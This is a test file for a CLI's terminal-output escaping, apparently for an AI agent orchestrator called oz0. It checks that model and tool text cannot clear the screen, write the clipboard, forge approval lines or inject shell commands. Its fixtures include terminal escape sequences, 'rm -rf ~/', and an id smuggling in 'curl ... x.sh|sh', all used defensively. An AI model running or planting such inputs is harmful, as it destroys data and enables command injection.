// What oz0 prints on a terminal from a job (the model's text, tool names and
// titles, tool output, results, errors, a session's stderr) is a harness's or a
// model's text, and a file a tool read can put anything in it. Printed, it
// cannot clear the screen, retitle the window, write the clipboard, write over
// a line or show a command reversed: each such character is a \u escape, and
// line feeds and tabs stay.
import assert from "node:assert/strict";
import { PassThrough } from "node:stream";
import { test } from "node:test";
import { create } from "@bufbuild/protobuf";
import { timestampFromDate, ValueSchema } from "@bufbuild/protobuf/wkt";
import { StopReason } from "@oz0/proto/oz0/harness/v1/harness_pb";
import { OperationStatus, TranscriptResponseSchema } from "@oz0/proto/oz0/events/v1/events_pb";
import {
  ApprovalSchema,
  Decider,
  JobEventSchema,
  JobSchema,
  JobState,
  type JobEvent,
} from "@oz0/proto/oz0/orchestrator/v1/orchestrator_pb";
import { approvalsList, jobsArtifacts } from "../src/cli/commands.js";
import type { Connection } from "../src/cli/connection.js";
import { describeJob, EventPrinter } from "../src/cli/event-printer.js";
import { LiveTerminal } from "../src/cli/live-terminal.js";
import { rowsOf } from "../src/cli/approval-prompt.js";
import {
  clipToColumns,
  fieldText,
  rowsOfLine,
  shellWord,
  terminalLine,
  terminalText,
} from "../src/cli/terminal-text.js";
import { transcriptRows } from "../src/cli/transcript-rows.js";

/** Everything a terminal acts on but a line feed and a tab. */
// eslint-disable-next-line no-control-regex -- the control characters are what it looks for
const ACTIVE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

/** Clears the screen, writes the clipboard (OSC 52), writes over its line, then reads reversed. */
const HOSTILE = "ok\u001b[2J\u001b]52;c;ZXZpbA==\u0007\rDONE \u202egnp.exe\u2028\u009b31m";
const SHOWN = String.raw`ok\u001b[2J\u001b]52;c;ZXZpbA==\u0007\u000dDONE \u202egnp.exe\u2028\u009b31m`;

void test("terminalText keeps line feeds, tabs and CRLFs and escapes the rest; terminalLine escapes line feeds too", () => {
  assert.equal(terminalText("a\tb\r\nc\nd"), "a\tb\r\nc\nd");
  assert.equal(terminalText(HOSTILE), SHOWN);
  assert.equal(terminalLine("a\nb\tc"), String.raw`a\u000ab\u0009c`);
  // A whole emoji stays; half of one is named.
  assert.equal(terminalText("🎉 \ud83d"), String.raw`🎉 \ud83d`);
  assert.equal(terminalText("plain text, ünïcödé, 日本語"), "plain text, ünïcödé, 日本語");
});

void test("rows and clipping count a terminal's columns: wide characters two, combining and zero-width ones none", () => {
  // 10 CJK characters are 20 columns: two rows of a 16-column terminal, where 10 code points would fit in one.
  assert.equal(rowsOfLine("日本語日本語日本語日", 16), 2);
  // A wide character with one column left moves to the next row whole: 7 (14 columns), then 1 char on 15 → row 2.
  assert.equal(rowsOfLine(`${"日".repeat(7)}x日`, 16), 2);
  assert.equal(rowsOfLine(`${"日".repeat(7)}x`, 16), 1, "15 columns fit");
  assert.equal(rowsOfLine(`${"日".repeat(8)}`, 16), 1, "exactly the width stays one row");
  // 20 letters each with a combining accent, and zero-width joiners between them: 20 columns, 40+ code points.
  const combined = "e\u0301\u200b".repeat(20);
  assert.equal(rowsOfLine(combined, 16), 2);
  assert.equal(rowsOfLine(combined, 20), 1, "combining and zero-width characters take no column");
  assert.equal(rowsOfLine("👩‍👩‍👧 ok", 6), 1, "a family emoji of seven code points is two columns");
  assert.equal(rowsOf("日本語日本語日本語日\n\nb", 16), 4);
  assert.equal(rowsOfLine("", 80), 1, "an empty line is still a row");

  assert.equal(clipToColumns("日本語日本語", 5), "日本", "never half of a wide character");
  assert.equal(clipToColumns("e\u0301e\u0301e\u0301", 2), "e\u0301e\u0301", "an accent stays with its letter");
  assert.equal(clipToColumns("short", 80), "short");
});

void test("the status line fits on one row of the terminal whatever the width of its characters", () => {
  const out = new PassThrough();
  let shown = "";
  out.on("data", (d: Buffer) => (shown += d.toString()));
  Object.assign(out, { columns: 21 });
  const terminal = new LiveTerminal({ out, render: () => "ツール 日本語の説明が長いステータス行" });
  terminal.refresh();
  terminal.stop();
  // eslint-disable-next-line no-control-regex -- the status line's own escapes are what it strips
  const line = /\x1b\[2m(.*?)\x1b\[0m/.exec(shown)?.[1];
  // 20 columns at most (one left for the cursor): 10 wide characters or fewer, never 20 code points.
  assert.equal(line, "ツール 日本語の説明");
});

function printed(
  events: Omit<Parameters<typeof create<typeof JobEventSchema>>[1], "$typeName">[],
  options: { answerable?: boolean } = {},
): string {
  const out = new PassThrough();
  let text = "";
  out.on("data", (d: Buffer) => (text += d.toString()));
  const printer = new EventPrinter({ out, json: false, ...options });
  for (const event of events) printer.print(create(JobEventSchema, { jobId: "job-1", ...event }) as JobEvent);
  printer.end();
  return text;
}

void test("a job's live output prints the harness's and the model's text inert, its lines and tabs as they are", () => {
  const text = printed([
    { event: { case: "text", value: { itemId: "t1", text: `line one\n\tindented ${HOSTILE}`, delta: true } } },
    { event: { case: "text", value: { itemId: "t1", text: " more\r\n", delta: true } } },
    {
      event: {
        case: "toolCall",
        value: { callId: "c1", tool: `Bash${HOSTILE}`, title: `Run ${HOSTILE}` },
      },
    },
    {
      event: {
        case: "toolResult",
        value: {
          callId: "c1",
          output: create(ValueSchema, { kind: { case: "stringValue", value: `out\n${HOSTILE}` } }),
        },
      },
    },
    {
      event: {
        case: "permissionDecision",
        value: { id: `p${HOSTILE}`, tool: `Bash${HOSTILE}`, pending: true },
      },
    },
    {
      event: {
        case: "permissionDecision",
        value: { id: "p2", tool: "Bash", allow: false, decider: Decider.PERSON, reason: `no ${HOSTILE}` },
      },
    },
    {
      event: {
        case: "result",
        value: { stopReason: StopReason.COMPLETED, turns: 1, text: `done ${HOSTILE}`, error: `err ${HOSTILE}` },
      },
    },
    { event: { case: "stateChanged", value: { state: JobState.FAILED, reason: `because ${HOSTILE}` } } },
  ]);
  // The CRLF the model ended its line with stays (a carriage return alone would not).
  assert.doesNotMatch(text.replaceAll("\r\n", "\n"), ACTIVE, JSON.stringify(text));
  assert.ok(text.startsWith(`line one\n\tindented ${SHOWN} more\r\n`), text);
  // Every place a harness's text was printed shows it escaped (a title and a pending call's tool are put on one line, their spaces squeezed).
  assert.equal(text.split(SHOWN).length - 1, 10, text);
  assert.ok(text.includes(String.raw`: Run ok\u001b[2J\u001b]52;c;ZXZpbA==\u0007 DONE \u202egnp.exe \u009b31m`), text);
});

void test("oz0 jobs show and oz0 jobs transcript print a job's text inert", () => {
  const job = create(JobSchema, {
    id: "job-1",
    agent: { name: "a", version: 1 },
    state: JobState.FAILED,
    input: `fix it ${HOSTILE}`,
    createdAt: timestampFromDate(new Date("2026-12-04T12:00:00Z")),
    error: `policy bypass: ${HOSTILE}`,
    resultText: `result ${HOSTILE}`,
  });
  const shown = describeJob(job, { usage: "not metered" });
  assert.doesNotMatch(shown, ACTIVE, shown);
  assert.ok(shown.includes(`  error     policy bypass: ${SHOWN}`), shown);

  const rows = transcriptRows(
    create(TranscriptResponseSchema, {
      jobId: "job-1",
      rows: [
        {
          row: {
            case: "event",
            value: {
              type: "harness.tool_called",
              time: timestampFromDate(new Date("2026-12-04T12:00:00Z")),
              attributes: { tool: `Bash${HOSTILE}` },
            },
          },
        },
        {
          row: {
            case: "operation",
            value: {
              title: `Harness · review${HOSTILE}`,
              status: OperationStatus.COMPLETED,
              startedAt: timestampFromDate(new Date("2026-12-04T12:00:01Z")),
              steps: [{ kind: "tool", label: `Requested ${HOSTILE}` }],
            },
          },
        },
      ],
    }),
  );
  for (const row of rows) assert.doesNotMatch(row, ACTIVE, row);
  assert.equal(rows.join("\n").split(SHOWN).length - 1, 3, rows.join("\n"));
});

void test("oz0 approvals list shows every call's input, whatever its title says, on one inert line", async () => {
  const approvals = [
    create(ApprovalSchema, {
      jobId: "job-1",
      callId: "call-1",
      tool: "run_command",
      // A title that says one thing, and an input that does another.
      title: `Run the tests\n${HOSTILE}`,
      input: { command: "rm -rf ~/ \u202e#safe" },
    }),
  ];
  const conn = { clients: { jobs: { listApprovals: async () => ({ approvals }) } } } as unknown as Connection;
  const out = new PassThrough();
  let text = "";
  out.on("data", (d: Buffer) => (text += d.toString()));
  await approvalsList({ conn, all: false, json: false, io: { out, err: new PassThrough() } });
  assert.equal(text.split("\n").length, 2, text);
  // eslint-disable-next-line no-control-regex -- the control characters are what it looks for
  assert.doesNotMatch(text.slice(0, -1), /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/);
  assert.ok(
    text.startsWith(
      String.raw`job-1  call-1  run_command  Run the tests ok\u001b[2J\u001b]52;c;ZXZpbA==\u0007 DONE \u202egnp.exe \u009b31m  {"command":"rm -rf ~/ \u202e#safe"}`,
    ),
    text,
  );
});

void test("--json holds the very same values, with what a terminal would act on written as JSON escapes", async () => {
  const hostileTool = `run_command${HOSTILE}`;
  const approvals = [
    create(ApprovalSchema, { jobId: "job-1", callId: "call-1", tool: hostileTool, input: { command: HOSTILE } }),
  ];
  const conn = { clients: { jobs: { listApprovals: async () => ({ approvals }) } } } as unknown as Connection;
  const out = new PassThrough();
  let listed = "";
  out.on("data", (d: Buffer) => (listed += d.toString()));
  await approvalsList({ conn, all: false, json: true, io: { out, err: new PassThrough() } });

  const events = new PassThrough();
  let watched = "";
  events.on("data", (d: Buffer) => (watched += d.toString()));
  const printer = new EventPrinter({ out: events, json: true });
  printer.print(
    create(JobEventSchema, {
      jobId: "job-1",
      event: { case: "text", value: { itemId: "t1", text: HOSTILE, delta: true } },
    }) as JobEvent,
  );
  printer.end();

  for (const output of [listed, watched]) {
    assert.equal(output.split("\n").length, 2, output);
    assert.doesNotMatch(output.slice(0, -1), ACTIVE, output);
  }
  // A parser reads what the API said, character for character.
  const approval = JSON.parse(listed) as { tool: string; input: { command: string } };
  assert.equal(approval.tool, hostileTool);
  assert.equal(approval.input.command, HOSTILE);
  assert.equal((JSON.parse(watched) as { text: { text: string } }).text.text, HOSTILE);
});

void test("a field meant for one line cannot forge a line: a tool name, an id, a reason or an artifact's name with a line feed in it", async () => {
  // A pending call that looks harmless, under the name of another.
  const forged = "Bash\n? read_file waits for approval (call p9): oz0 approve job-1 p9";
  const text = printed([
    { event: { case: "toolCall", value: { callId: "c1", tool: forged, input: { command: "rm -rf ~/" } } } },
    { event: { case: "permissionDecision", value: { id: "p1", tool: forged, pending: true } } },
    {
      event: {
        case: "permissionDecision",
        value: { id: "p1", tool: "Bash", allow: false, decider: Decider.POLICY, reason: `no\n${forged}` },
      },
    },
    { event: { case: "artifacts", value: { artifacts: [{ path: `notes\n${forged}.md`, sizeBytes: 1n }] } } },
  ]);
  const lines = text.split("\n").filter(Boolean);
  assert.equal(lines.length, 4, text);
  assert.ok(
    lines.every((line) => !line.startsWith("? read_file")),
    text,
  );
  // The tool call shows its input, whatever its title is.
  assert.ok(lines[0]!.endsWith(`: {"command":"rm -rf ~/"}`), lines[0]);

  const shown = describeJob(
    create(JobSchema, { id: "job-1", state: JobState.FAILED, error: `bad\n  result    all good` }),
  );
  assert.ok(!shown.split("\n").some((line) => line.startsWith("  result ")), shown);

  const out = new PassThrough();
  let listed = "";
  out.on("data", (d: Buffer) => (listed += d.toString()));
  const artifacts = [{ name: "a", path: `/jobs/job-1/artifacts/notes\n${forged}\u001b[2J.md`, sizeBytes: 1n }];
  const conn = {
    clients: { jobs: { getArtifacts: async () => ({ artifacts, contents: [] }) } },
  } as unknown as Connection;
  await jobsArtifacts({ conn, jobId: "job-1", json: false, io: { out, err: new PassThrough() } });
  assert.equal(
    listed,
    `${String.raw`/jobs/job-1/artifacts/notes\u000aBash\u000a? read_file waits for approval (call p9): oz0 approve job-1 p9\u001b[2J.md`}\n`,
  );
});

void test("an id in a command a person copies is one shell word; a field padded to wrap is cut and its spaces squeezed", () => {
  const text = printed([
    {
      event: { case: "permissionDecision", value: { id: "p1;curl${IFS}-s${IFS}x.sh|sh", tool: "Bash", pending: true } },
    },
    { event: { case: "permissionDecision", value: { id: "p1 --input='{}'", tool: "Bash", pending: true } } },
    {
      event: {
        case: "permissionDecision",
        value: { id: "perm-2", tool: `read_file${" ".repeat(300)}? Bash waits for approval`, pending: true },
      },
    },
  ]);
  const [first, second, third] = text.split("\n");
  assert.ok(first!.includes(`oz0 approve job-1 'p1;curl\${IFS}-s\${IFS}x.sh|sh'   or`), first);
  assert.ok(second!.includes(`oz0 deny job-1 'p1 --input='\\''{}'\\''' --reason TEXT`), second);
  // A plain id is printed as it is.
  assert.ok(
    third!.startsWith(
      "? read_file ? Bash waits for approval waits for approval (call perm-2): oz0 approve job-1 perm-2 ",
    ),
    third,
  );
  assert.equal(shellWord("toolu_01AbC-9.x"), "toolu_01AbC-9.x");
  assert.match(printed([{ event: { case: "result", value: { text: "done", turns: 1 } } }]), /, 1 turn\)/);
  // A stack that stops with this command (embedded) is found by no other command: no oz0 approve is offered there.
  assert.equal(
    printed([{ event: { case: "permissionDecision", value: { id: "perm-1", tool: "Bash", pending: true } } }], {
      answerable: false,
    }),
    "? Bash waits for approval (call perm-1)\n",
  );
  assert.equal(fieldText("x".repeat(200)).length, 120);
});

void test("oz0 jobs transcript says when the events service left a job's oldest events out", () => {
  const rows = transcriptRows(create(TranscriptResponseSchema, { jobId: "job-big", omittedEvents: 190_000 }));
  assert.deepEqual(rows, [
    "transcript of job job-big",
    "(the job's oldest 190000 events are left out: a transcript is built from a job's newest events)",
  ]);
  assert.deepEqual(transcriptRows(create(TranscriptResponseSchema, { jobId: "job-small" })), [
    "transcript of job job-small",
  ]);
});
